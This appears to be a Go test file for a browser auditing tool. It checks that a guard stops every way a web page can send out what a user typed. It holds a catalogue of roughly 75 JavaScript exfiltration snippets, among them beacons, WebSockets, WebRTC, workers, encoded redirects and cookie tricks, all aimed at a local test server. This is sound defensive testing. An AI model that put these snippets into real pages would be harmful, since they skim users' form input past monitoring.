package browser

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/dom"
	"github.com/chromedp/chromedp"

	"github.com/igfaudit/igfaudit/audit"
	"github.com/igfaudit/igfaudit/rules/page"
)

// channels are the ways in which what was typed can leave a page. Each runs
// with the value in v; to(name) is an address of the same host and away(name)
// one of another. What arrives there is counted, and so is the value wherever
// it stands in the bytes that arrive.
var channels = map[string]string{
	"form-post":            `const f = form("post", to, v); f.submit()`,
	"form-get":             `const f = form("get", to, v); f.submit()`,
	"form-button":          `const f = form("post", to, v); const b = document.createElement("button"); f.append(b); b.click()`,
	"form-blank":           `const f = form("post", to, v); f.target = "_blank"; f.submit()`,
	"form-blank-get":       `const f = form("get", to, v); f.target = "_blank"; f.rel = "noopener"; f.submit()`,
	"form-in-frame":        `frame("<form method=post action='" + to + "'><input name=q value='" + v + "'></form>").onload = e => e.target.contentDocument.forms[0].submit()`,
	"fetch-post":           `fetch(to, {method: "POST", body: v})`,
	"fetch-get":            `fetch(to + "?q=" + encodeURIComponent(v))`,
	"fetch-header":         `fetch(to, {headers: {"X-Value": v}})`,
	"fetch-keepalive":      `addEventListener("pagehide", () => fetch(to + "?q=" + v, {keepalive: true, method: "POST", body: v}))`,
	"fetch-keepalive-get":  `addEventListener("pagehide", () => fetch(to + "?q=" + v, {keepalive: true}))`,
	"xhr":                  `const x = new XMLHttpRequest(); x.open("POST", to); x.send(v)`,
	"xhr-get":              `const x = new XMLHttpRequest(); x.open("GET", to + "?" + v); x.send()`,
	"beacon":               `navigator.sendBeacon(to, v)`,
	"ping":                 `document.body.insertAdjacentHTML("beforeend", "<a id=pa href='#x' ping='" + to + "?q=" + v + "'>x</a>"); pa.click()`,
	"image":                `new Image().src = away + "?q=" + v`,
	"image-srcset":         `new Image().srcset = to + "?q=" + v + " 2x"`,
	"script":               `const s = document.createElement("script"); s.src = away + "?q=" + v; document.body.append(s)`,
	"css-url":              `style("body {background: url('" + to + "?q=" + v + "')}")`,
	"css-import":           `style("@import '" + to + "?q=" + v + "';")`,
	"font":                 `new FontFace("x", "url('" + to + "?q=" + v + "')").load()`,
	"svg-use":              `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + to + "?q=" + v + "'/></svg>")`,
	"video":                `document.createElement("video").src = to + "?q=" + v`,
	"websocket":            `const w = new WebSocket(ws + "?q=" + v); w.onopen = () => w.send(v)`,
	"websocket-in-frame":   `code("const w = new WebSocket('" + ws + "?q=" + v + "')")`,
	"websocket-in-worker":  `work("const w = new WebSocket('" + ws + "?q=" + v + "')")`,
	"websocket-in-shared":  `share("const w = new WebSocket('" + ws + "?q=" + v + "')")`,
	"websocket-in-cross":   `cross("new WebSocket('" + ws + "?q=" + v + "')")`,
	"eventsource":          `new EventSource(to + "?q=" + v)`,
	"webtransport":         `new WebTransport("https://{quic}/?q=" + v).ready.catch(() => 0)`,
	"webtransport-worker":  `work("new WebTransport('https://{quic2}/?q=" + v + "').ready.catch(() => 0)")`,
	"webrtc":               `rtc("stun:{stun}", v)`,
	"webrtc-turn":          `rtc("turn:{turn}?transport=tcp", v)`,
	"webrtc-in-cross":      `cross("(" + rtc + ")('stun:{stun2}', '" + v + "')")`,
	"worker":               `work("fetch('" + to + "?q=" + v + "')")`,
	"worker-post":          `work("fetch('" + to + "', {method: 'POST', body: '" + v + "'})")`,
	"worker-base64":        `work("fetch('" + to + "?q=' + btoa('" + v + "'))")`,
	"worker-nested":        `work("new Worker(URL.createObjectURL(new Blob([\"fetch('" + to + "?q=" + v + "')\"])))")`,
	"shared-worker":        `share("fetch('" + to + "?q=" + v + "')")`,
	"service-worker":       `navigator.serviceWorker.register("/sw.js?q=" + v)`,
	"service-worker-late":  `navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(r => r.active.postMessage(to + "?q=" + v))`,
	"iframe":               `const i = document.createElement("iframe"); i.src = to + "?q=" + v; document.body.append(i)`,
	"iframe-cross":         `const i = document.createElement("iframe"); i.src = away + "?q=" + v; document.body.append(i)`,
	"cross-posts":          `cross("fetch('" + away + "', {method: 'POST', body: '" + v + "'})")`,
	"cross-gets":           `cross("fetch('" + away + "?q=" + v + "')")`,
	"cross-navigates":      `cross("location = '" + away + "?q=" + v + "'")`,
	"popup":                `open(to + "?q=" + v)`,
	"popup-noopener":       `open(to + "?q=" + v, "_blank", "noopener")`,
	"popup-cross":          `open(away + "?q=" + v)`,
	"popup-name":           `open("/relay?to=" + to, v)`,
	"location":             `location = to + "?q=" + v`,
	"location-path":        `location = to + "/" + v`,
	"location-base64":      `location = to + "?q=" + btoa(JSON.stringify({m: v}))`,
	"location-base64url":   `location = to + "?q=" + btoa("x" + v).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "")`,
	"location-hex":         `location = to + "?q=" + [...v].map(c => c.charCodeAt(0).toString(16)).join("")`,
	"location-twice":       `location = to + "?q=" + encodeURIComponent(encodeURIComponent(v))`,
	"location-json":        `location = to + "?q=" + encodeURIComponent('{"m":"' + [...v].map(c => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join("") + '"}')`,
	"image-sum":            `crypto.subtle.digest("SHA-256", new TextEncoder().encode(v)).then(d => new Image().src = to + "?em=" + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, "0")).join(""))`,
	"meta-refresh":         `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\"0;url=" + to + "?q=" + v + "\">")`,
	"prefetch":             `link("prefetch", to + "?q=" + v)`,
	"preload":              `link("preload", to + "?q=" + v)`,
	"modulepreload":        `link("modulepreload", to + "?q=" + v)`,
	"stylesheet":           `link("stylesheet", to + "?q=" + v)`,
	"prerender":            `link("prerender", to + "?q=" + v)`,
	"speculation":          `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{source: "list", urls: [to + "?q=" + v], eagerness: "immediate"}]}); document.body.append(s)`,
	"speculation-render":   `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prerender: [{source: "list", urls: [to + "?q=" + v], eagerness: "immediate"}]}); document.body.append(s)`,
	"cookie":               `document.cookie = "m=" + v + ";path=/"; new Image().src = "/plain"`,
	"cookie-store":         `if (self.cookieStore) cookieStore.set("m", v).then(() => fetch("/plain")); else fetch("/plain")`,
	"cookie-then-location": `document.cookie = "m=" + btoa(v) + ";path=/"; location = "/plain"`,
	"cookie-in-frame":      `code("document.cookie = 'm=" + v + ";path=/'; fetch('/plain')")`,
	"referer":              `history.pushState(0, "", "/state?q=" + v); new Image().src = "/plain"`,
	"referer-location":     `history.pushState(0, "", "/state/" + v); location = "/plain"`,
	"csp-report":           `new Image().src = "http://127.0.0.1:1/" + v`,
	"timer":                `setTimeout(() => fetch(to + "?q=" + v), 1500)`,
	"storage-then-page":    `localStorage.v = v; location = "/relay?to=" + to`,
	"window-name":          `window.name = v; location = "/relay?to=" + to`,
}

// unguardedSilent are channels that Chrome itself keeps shut as we run it, or
// that nothing can be made to arrive on without a certificate.
var unguardedSilent = []string{"ping", "prerender", "preload", "modulepreload", "video"}

const channelScript = `
const form = (method, to, v) => { const f = document.createElement("form"); f.method = method; f.action = to; f.innerHTML = "<input name=q>"; f.firstChild.value = v; document.body.append(f); return f };
const frame = html => { const i = document.createElement("iframe"); i.srcdoc = html; document.body.append(i); return i };
const code = text => frame("<script>" + text + "<\/script>");
const style = text => { const s = document.createElement("style"); s.textContent = text; document.head.append(s) };
const link = (rel, href) => { const l = document.createElement("link"); l.rel = rel; l.href = href; l.as = "script"; document.head.append(l) };
const blob = text => URL.createObjectURL(new Blob([text]));
const work = text => window.kept = new Worker(blob(text));
const share = text => window.kept = new SharedWorker(blob(text));
const cross = text => { const i = document.createElement("iframe"); i.src = "{other}/runs"; i.onload = () => i.contentWindow.postMessage(text, "*"); document.body.append(i) };
function rtc(server, v) { const c = new RTCPeerConnection({iceServers: [{urls: server, username: v, credential: "x"}]}); c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o)); globalThis.keptPeer = c }
`

// counter is a site on two hosts that counts what arrives of each channel.
type counter struct {
	*httptest.Server
	udp map[string]net.PacketConn // by placeholder
	tcp net.Listener              // of a TURN server

	mu      sync.Mutex
	raw     bytes.Buffer // all bytes that came over TCP
	arrived map[string]int
	writes  []string
}

func newCounter(t *testing.T) *counter {
	t.Helper()
	c := &counter{arrived: map[string]int{}, udp: map[string]net.PacketConn{}}
	c.Server = httptest.NewUnstartedServer(c)
	c.Listener = tapped{c.Listener, c}
	c.Start()
	t.Cleanup(c.Close)
	for place, channel := range map[string]string{"{quic}": "webtransport", "{quic2}": "webtransport-worker", "{stun}": "webrtc", "{stun2}": "webrtc-in-cross"} {
		p, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { p.Close() })
		c.udp[place] = p
		go func() {
			for b := make([]byte, 2048); ; {
				if _, _, err := p.ReadFrom(b); err != nil {
					return
				}
				c.note(channel)
			}
		}()
	}
	var err error
	if c.tcp, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.tcp.Close() })
	go func() {
		for {
			conn, err := c.tcp.Accept()
			if err != nil {
				return
			}
			c.note("webrtc-turn")
			conn.Close()
		}
	}()
	return c
}

func (c *counter) note(channel string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.arrived[channel]++
}

// tapped keeps every byte that arrives.
type tapped struct {
	net.Listener
	c *counter
}

func (l tapped) Accept() (net.Conn, error) {
	conn, err := l.Listener.Accept()
	return tap{conn, l.c}, err
}

type tap struct {
	net.Conn
	c *counter
}

func (t tap) Read(b []byte) (int, error) {
	n, err := t.Conn.Read(b)
	t.c.mu.Lock()
	defer t.c.mu.Unlock()
	t.c.raw.Write(b[:n])
	return n, err
}

func (c *counter) other() string { return strings.Replace(c.URL, "127.0.0.1", "localhost", 1) }

func (c *counter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if !harmless[r.Method] {
		c.mu.Lock()
		c.writes = append(c.writes, r.Method+" "+r.URL.Path)
		c.mu.Unlock()
	}
	name := strings.Trim(r.URL.Path, "/")
	w.Header().Set("Access-Control-Allow-Origin", "*")
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	switch {
	case strings.HasPrefix(name, "arrive/"):
		if r.Method != http.MethodOptions {
			c.note(strings.Split(name, "/")[1])
		}
	case strings.HasPrefix(name, "page/"):
		c.page(w, strings.TrimPrefix(name, "page/"))
	case name == "sw.js":
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, "onmessage = e => fetch(e.data); oninstall = () => skipWaiting(); onactivate = e => e.waitUntil(clients.claim())")
	case name == "runs":
		fmt.Fprint(w, `<!doctype html><title>f</title><script>onmessage = e => eval(e.data)</script>`)
	case name == "relay":
		fmt.Fprintf(w, `<!doctype html><title>r</title><script>fetch(%q + "?q=" + encodeURIComponent(localStorage.v || window.name))</script>`, r.FormValue("to"))
	}
}

func (c *counter) page(w http.ResponseWriter, name string) {
	if name == "csp-report" {
		w.Header().Set("Content-Security-Policy", "img-src 'self'; report-uri /arrive/csp-report")
	}
	replace := []string{"{other}", c.other(), "{turn}", c.tcp.Addr().String()}
	for place, p := range c.udp {
		replace = append(replace, place, p.LocalAddr().String())
	}
	script := strings.NewReplacer(replace...).Replace(channelScript + `m.oninput = () => { const v = m.value, to = "` + c.URL + "/arrive/" + name + `", away = "{other}/arrive/` + name + `", ws = "ws" + to.slice(4); ` + channels[name] + ` }`)
	fmt.Fprintf(w, `<!doctype html><html lang=en><title>%s</title><body><label>Mail <input id=m></label><button type=button>Register</button><script>%s</script>`, name, script)
}

// core is the part of a channel's value that stays the same in percent codes.
func core(channel string) string { return "xq7" + strings.ReplaceAll(channel, "-", "") + "zw9" }

func valueOf(channel string) string { return core(channel) + "@example.org" }

// counts tells how often something of each channel arrived: by its address, or
// its value in any spelling.
func (c *counter) counts() map[string]int {
	c.mu.Lock()
	defer c.mu.Unlock()
	got := map[string]int{}
	raw := strings.ToLower(c.raw.String())
	for name := range channels {
		got[name] = c.arrived[name] + strings.Count(raw, core(name)) + strings.Count(raw, hex.EncodeToString([]byte(core(name))))
		for before := range 3 {
			coded := base64.RawStdEncoding.EncodeToString([]byte(strings.Repeat("x", before) + core(name)))
			got[name] += strings.Count(c.raw.String(), coded[4:len(coded)-2])
		}
		if got[name] == 0 {
			delete(got, name)
		}
	}
	return got
}

func named(counts map[string]int) []string {
	var names []string
	for n := range counts {
		names = append(names, n)
	}
	slices.Sort(names)
	return names
}

// drive walks the page of one channel under a policy.
func drive(t *testing.T, b *Browser, c *counter, channel string, p policy, before func(*tab)) (*tab, audit.Walked) {
	t.Helper()
	flow, err := audit.ParseFlow("t.yaml", []byte("version: 1\nflow: f\ntitle: T\nhosts: [127.0.0.1, localhost]\nsteps:\n- open: /page/"+channel+"\n- fill: {field: {label: Mail}, with: "+valueOf(channel)+"}\n- checkpoint: end\n- stop_before: {button: {label: Register}}\n"))
	if err != nil {
		t.Fatal(err)
	}
	s := b.NewSession()
	defer s.Close()
	tab, err := s.take(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	ctx, end := tab.begin(t.Context(), c.URL)
	w := &walker{tab: tab, options: b.options, r: audit.Rehearsal{Flow: flow, Pass: audit.ScanPass, Site: c.URL, Mode: audit.Observe}, pass: passes[audit.ScanPass], hosts: map[string]bool{}, look: func(*page.Snapshot, audit.Camera) {}}
	tab.permit(w.mayOpen)
	if err := tab.guardBy(ctx, p); err != nil {
		t.Fatal(err)
	}
	if before != nil {
		before(tab)
	}
	var r audit.Walked
	w.steps(ctx, &r)
	time.Sleep(150 * time.Millisecond)
	end(nil)
	s.give(tab, false)
	return tab, r
}

// Whatever way a page takes, nothing that was typed leaves it in observe, and
// nothing that writes.
func TestGuardCountsNothing(t *testing.T) {
	t.Parallel()
	for _, isolated := range []bool{false, true} {
		t.Run(fmt.Sprintf("sitePerProcess=%t", isolated), func(t *testing.T) {
			t.Parallel()
			c := newCounter(t)
			b := open(t, Options{SitePerProcess: isolated, Timeout: 5 * time.Second, Patience: time.Second, Tabs: 1})
			for name := range channels {
				drive(t, b, c, name, b.newPolicy(audit.FlowGuard{}), nil)
			}
			time.Sleep(2 * time.Second)
			b.Close()
			if got := c.counts(); len(got) > 0 {
				t.Errorf("arrived, with how often: %v", got)
			}
			if len(c.writes) > 0 {
				t.Errorf("writing requests arrived: %v", c.writes)
			}
		})
	}
}

// The same pages in a browser without the guard do send what was typed; else
// the test above would prove nothing.
func TestGuardChannelsWork(t *testing.T) {
	c := newCounter(t)
	path, err := Find("")
	if err != nil {
		t.Fatal(err)
	}
	h, err := newHome(false)
	if err != nil {
		t.Fatal(err)
	}
	defer h.remove()
	alloc, stop := chromedp.NewExecAllocator(t.Context(), append(flags(path, h.dir, Options{}), chromedp.ModifyCmdFunc(h.own))...)
	defer stop()
	ctx, cancel := chromedp.NewContext(alloc)
	defer cancel()
	if err := chromedp.Do(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, dom.Disable, cdp.Empty{}); err != nil {
		t.Fatal(err)
	}
	for name := range channels {
		timed, done := context.WithTimeout(ctx, 10*time.Second)
		set := fmt.Sprintf(`m.value = %q; m.dispatchEvent(new Event("input")); 1`, valueOf(name))
		if err := chromedp.Do(timed, chromedp.Navigate(c.URL+"/page/"+name)); err != nil {
			t.Logf("%s: %v", name, err)
		}
		if _, err := chromedp.Run(timed, chromedp.Evaluate[int](set)); err != nil {
			t.Logf("%s: %v", name, err)
		}
		time.Sleep(250 * time.Millisecond)
		if name == "timer" {
			time.Sleep(1500 * time.Millisecond)
		}
		done()
	}
	chromedp.Do(ctx, chromedp.Navigate("about:blank"), chromedp.Sleep(500*time.Millisecond))
	got := c.counts()
	for name := range channels {
		if got[name] == 0 && !slices.Contains(unguardedSilent, name) {
			t.Errorf("%s: nothing arrived; the page does not do what it is for", name)
		}
	}
	t.Logf("%d of %d channels arrive without the guard", len(named(got)), len(channels))
}
